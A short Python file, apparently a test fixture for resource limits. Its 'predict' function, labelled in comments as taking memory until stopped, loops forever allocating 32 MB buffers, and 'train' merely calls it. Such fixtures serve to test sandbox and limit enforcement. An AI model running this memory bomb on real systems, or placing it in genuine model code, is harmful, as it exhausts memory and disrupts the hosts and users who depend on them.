# takes memory until it is stopped
# status: memory
def predict(x, W, b):
    held = []
    while True:
        held.append(bytearray(32 << 20))


def train(x, y, lr=0.01, steps=2001):
    return predict(x, 0, 0)
